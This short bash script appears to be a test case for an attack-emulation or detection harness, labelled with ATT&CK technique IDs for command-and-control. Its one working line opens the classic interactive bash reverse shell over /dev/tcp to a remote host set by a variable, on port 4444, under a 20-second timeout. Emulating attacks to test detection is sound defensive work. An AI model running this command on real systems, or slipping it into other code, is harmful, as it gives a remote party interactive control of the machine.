#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1059.004 Unix Shell; T1095 Non-Application Layer Protocol
# behaviour: the classic bash reverse shell: an interactive bash with its input and output on a TCP connection to the operator
# as: user
# needs: remote
# expect: reverse_shell
set -u
timeout 20 bash -c "bash -i >& /dev/tcp/$SNTL_REMOTE/4444 0>&1" 2>/dev/null || true
